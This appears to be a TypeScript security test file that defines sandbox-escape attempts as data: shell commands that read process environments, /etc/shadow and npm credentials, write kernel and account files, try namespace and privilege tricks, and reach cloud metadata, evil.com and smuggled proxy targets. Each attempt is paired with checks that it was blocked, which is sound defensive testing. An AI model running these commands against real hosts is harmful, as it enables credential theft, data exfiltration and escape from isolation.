/** What hostile code inside tries, as data: the suite runs it over every driver, and a command prints what came of it. */

/** Where the attempts are made from, and what there is to be had. */
export interface AttackPlace {
  /** A key in the environment of the server's process. */
  secret: string;
  /** The server's process, and its home folder. */
  pid: number;
  home: string;
  /** Another project's folder on the host; its `private.txt` holds `otherSecret`. */
  otherDirectory: string;
  otherSecret: string;
  /** A service of the host listens on this port of all these addresses. */
  servicePort: number;
  addresses: readonly string[];
}

export interface Attempt {
  /** Of the list of attacks; empty where that list has no number for it. */
  id: string;
  area: "read" | "write" | "privilege" | "connect";
  /** What is tried, in a few words. */
  what: string;
  /** Shell command, run inside. */
  command: string;
  /** The attempt was made: its output has this. */
  always?: RegExp;
  /** It was held: its output has none of this. */
  never?: RegExp;
}

/** Whether an attempt was made and came to nothing. */
export const isHeld = ({ always, never }: Attempt, output: string): boolean =>
  (always?.test(output) ?? true) && !(never?.test(output) ?? false);

export const attempts = (place: AttackPlace): Attempt[] => [
  ...readings(place),
  ...writings(),
  ...privileges(),
  ...connections(place),
];

function readings(place: AttackPlace): Attempt[] {
  const { otherDirectory: other, pid } = place;
  return [
    {
      id: "A33",
      area: "read",
      what: "keys of the server in any environment or command line",
      command: "env; cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'; echo end",
      always: /PATH=[^]*end/,
      never: literally(place.secret, "TREADLE_TEST_KEY", `=${place.home}\n`),
    },
    {
      id: "A19",
      area: "read",
      what: "password files and logins of the host",
      command: "cat /etc/shadow /root/.npmrc /proc/1/root/etc/shadow 2>&1; echo end",
      always: /end/,
      never: /root:[$*!]|_auth|registry/,
    },
    {
      id: "A19",
      area: "read",
      what: "folders of the host",
      command: "ls -d /work /host /mnt/* /media/* /srv/* /boot/* /root/.??* 2>/dev/null; echo end",
      always: /^end\n$/,
    },
    {
      id: "A20",
      area: "read",
      what: "the host through a planted link",
      command: `ln -sfn ${other} planted; ln -sfn /proc/1/root${other} planted-too; cat planted/private.txt planted-too/private.txt 2>&1; rm planted planted-too; echo end`,
      always: /end/,
      never: literally(place.otherSecret),
    },
    {
      id: "A19",
      area: "read",
      what: "another project's files, by any path",
      command: `cat ${other}/private.txt ../other/private.txt /proc/1/root${other}/private.txt /proc/*/cwd/private.txt 2>&1; find / -xdev -name private.txt 2>/dev/null; echo end`,
      always: /end/,
      never: new RegExp(`${literally(place.otherSecret).source}|^/.*private.txt$`, "m"),
    },
    {
      id: "A33",
      area: "read",
      what: "the server's process",
      command: `cat /proc/${pid}/environ 2>&1; kill -0 ${pid} 2>&1; echo end`,
      always: /No such[^]*No such[^]*end/,
    },
    {
      id: "A33",
      area: "read",
      what: "processes of the host",
      command: "ls /proc | grep -c '^[0-9]'",
      always: /^\d\d?\n$/,
    },
    {
      id: "A19",
      area: "read",
      what: "the server's database and sockets",
      command:
        "find / -xdev \\( -name '*.sqlite*' -o -name 'treadle.db*' -o -name docker.sock -o -name .s.PGSQL* \\) 2>/dev/null; echo end",
      always: /^end\n$/,
    },
  ];
}

function writings(): Attempt[] {
  const files = [
    "/usr/x",
    "/etc/x",
    "/x",
    "/run/treadle/guest/guest.mjs",
    "/run/treadle/npm/package.json",
    "/run/treadle/node/bin/node",
    "/etc/passwd",
    "/dev/x",
  ];
  const kernel = [
    "/proc/sys/kernel/hostname",
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/vm/overcommit_memory",
    "/proc/sysrq-trigger",
    "/sys/kernel/uevent_helper",
  ];
  const write = (paths: string[]) =>
    `for f in ${paths.join(" ")}; do (echo x >> $f) 2>/dev/null && echo WROTE $f; done; echo end`;
  return [
    {
      id: "A19",
      area: "write",
      what: "system, programs and accounts",
      command: write(files),
      always: /^end\n$/,
    },
    {
      id: "A32",
      area: "write",
      what: "settings of the host's kernel",
      command: write(kernel),
      always: /^end\n$/,
    },
  ];
}

function privileges(): Attempt[] {
  const tries = {
    "a mount": "mount -t tmpfs x /mnt",
    "a user namespace": "unshare -U true",
    "a mount namespace": "unshare -Urm true",
    "a network namespace": "unshare -n true",
    "a root of its own": "chroot / true",
    "another account by sudo": "sudo -n true",
    "another account by su": "su -c true < /dev/null",
    "a sandbox in the sandbox": "bwrap --unshare-user --bind / / true",
    "a device": "mknod /tmp/disk b 254 0",
    "a file of root's": "touch mine && chown 0 mine",
    "namespaces of the first process": "nsenter -t 1 -m true",
  };
  return [
    ...Object.entries(tries).map(([what, command]): Attempt => ({
      id: "A32",
      area: "privilege",
      what,
      command: `(${command}) > /dev/null 2>&1 && echo GOT; rm -f mine; echo end`,
      always: /^end\n$/,
    })),
    {
      id: "A32",
      area: "privilege",
      what: "capabilities, or a way to gain some",
      command: "grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs)' /proc/self/status",
      always: /CapPrm:\s0+\n[^]*CapEff:\s0+\n[^]*NoNewPrivs:\s1\n/,
    },
  ];
}

function connections({ addresses, servicePort }: AttackPlace): Attempt[] {
  const dial = (host: string, port: number) =>
    `env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u NODE_USE_ENV_PROXY node -e 'const s=require("net").connect({host:${JSON.stringify(host)},port:${port},timeout:2000});const say=w=>{console.log(w);process.exit()};s.on("connect",()=>say("CONNECTED"));s.on("timeout",()=>say("timeout"));s.on("error",e=>say(e.code))'`;
  const through = (target: string) =>
    `node -e 'const s=require("net").connect(4874,"127.0.0.1",()=>s.write("CONNECT ${target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"));s.on("data",d=>{console.log(String(d).split("\\r\\n")[0]);process.exit()});s.on("close",()=>process.exit());s.on("error",e=>console.log(e.code))'; echo end`;
  const own = ["127.0.0.1", "::1", "localhost", "0.0.0.0", "::ffff:127.0.0.1", ...addresses];
  const elsewhere = {
    "an address of the internet": "1.1.1.1",
    "the cloud's metadata": "169.254.169.254",
    "the local network": "10.0.0.1",
    "an address of the internet, IPv6": "2606:4700:4700::1111",
    "a neighbour, IPv6": "fe80::1",
  };
  const refused = [
    "evil.com",
    "registry.npmjs.org.evil.com",
    "evil-registry.npmjs.org",
    "169.254.169.254",
    "localhost",
  ];
  const spellings = [
    "registry.npmjs.org:22",
    `127.0.0.1:${servicePort}`,
    "0x7f000001:443",
    "[::1]:443",
    "2130706433:443",
    "evil\\0.registry.npmjs.org:443",
  ];
  return [
    ...own.map((host): Attempt => ({
      id: "A31",
      area: "connect",
      what: `a service of the host at ${host}`,
      command: dial(host, servicePort),
      always: /./,
      never: /CONNECTED/,
    })),
    ...Object.entries(elsewhere).map(([what, host]): Attempt => ({
      id: "A31",
      area: "connect",
      what: `${what} (${host}), past the proxy`,
      command: dial(host, 80),
      always: /ENETUNREACH|EHOSTUNREACH|EINVAL|EADDRNOTAVAIL/,
    })),
    {
      id: "A28",
      area: "connect",
      what: "a name, so that its lookup tells something",
      command: `node -e 'require("dns").lookup("secret.evil.com",e=>console.log(e.code))'; node -e 'require("dns").resolve("secret.evil.com",e=>console.log(e.code))'`,
      always: /^(EAI_AGAIN|ENOTFOUND)\n(ECONNREFUSED|ETIMEOUT|ENOTFOUND)\n$/,
    },
    ...refused.map((host): Attempt => ({
      id: "A27",
      area: "connect",
      what: `${host} through the proxy`,
      command: `curl -sS -m 5 https://${host}/ --noproxy '' 2>&1 | head -c 300; curl -sS -m 5 -d x http://${host}/ --noproxy '' 2>&1 | head -c 300`,
      always: /403[^]*(403|egress refused|nothing else)/,
    })),
    ...spellings.map((target): Attempt => ({
      id: "A16",
      area: "connect",
      what: `${target.replace("\\0", "NUL")} through the proxy`,
      command: through(target),
      always: /end/,
      never: /HTTP\/1.. 200/,
    })),
    {
      id: "A31",
      area: "connect",
      what: "abstract sockets of the host",
      command: `node -e 'const s=require("net").connect("\\0treadle-attack-${servicePort}");s.on("connect",()=>console.log("CONNECTED"));s.on("error",e=>console.log(e.code))'`,
      always: /^E/,
      never: /CONNECTED/,
    },
  ];
}

/** Any of these texts, as they stand. */
const literally = (...texts: string[]) =>
  new RegExp(texts.map((text) => text.replaceAll(/[.*+?^${}()|[\]\\/]/g, "\\$&")).join("|"));
